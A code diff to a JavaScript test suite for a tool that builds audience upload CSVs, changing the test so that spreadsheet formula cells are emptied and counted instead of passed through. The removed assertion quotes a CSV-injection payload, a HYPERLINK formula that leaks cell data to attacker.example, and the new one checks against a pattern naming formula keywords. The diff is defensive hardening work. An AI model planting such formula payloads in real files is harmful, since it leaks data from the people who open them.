@@ -267,15 +267,18 @@ describe('odd but readable inputs give the right audience', () => {
     assert.deepEqual(rows(out, 'rejects.csv'), [])
   })
 
-  test('formula cells reach upload files as the raw values the platforms need (README: CSV injection)', async () => {
+  test('formula cells are left empty in upload files and counted (docs/hardening.md: formula cells)', async () => {
     const out = await prepareOk(['--followers', fixture('bad/formula-cells.csv')])
     const wa = fs.readFileSync(path.join(out, 'whatsapp.csv'), 'utf8')
-    assert.match(wa, /^\+447405263100,"=HYPERLINK\(""http:\/\/attacker\.example\/\?leak=""&A1,""Click""\)",Hartley,/m)
-    assert.match(wa, /^\+447405263101,\+SUM\(1\+1\),-2\+3,/m)
+    assert.match(wa, /^\+447405263100,,Hartley,/m)
+    assert.match(wa, /^\+447405263101,,,/m)
+    assert.doesNotMatch(wa, /HYPERLINK|SUM|cmd/)
     // A number behind a spreadsheet guard (="+44…") is read as the number.
     assert.match(wa, /^\+447405263103,Tomasz,/m)
-    // Ad-platform files: hashed by default (hex digests never start a formula); --plain normalizes names to letters.
-    assert.deepEqual(rows(out, 'meta-custom-audience.csv').map((r) => r[6]), ['hyperlinkhttpattackerexampleleakaclick', 'sum', 'cmd', 'tomasz'])
+    // Ad-platform files: a formula name is emptied before any target normalizes or hashes it.
+    assert.deepEqual(rows(out, 'meta-custom-audience.csv').map((r) => r[6]), ['', '', '', 'tomasz'])
+    const report = JSON.parse(fs.readFileSync(path.join(out, 'report.json'), 'utf8'))
+    assert.deepEqual(report.formula_cells_emptied, { first_name: 3, last_name: 2 })
   })
 
   test('a 10 MB field is read, and the row keeps its person', async () => {
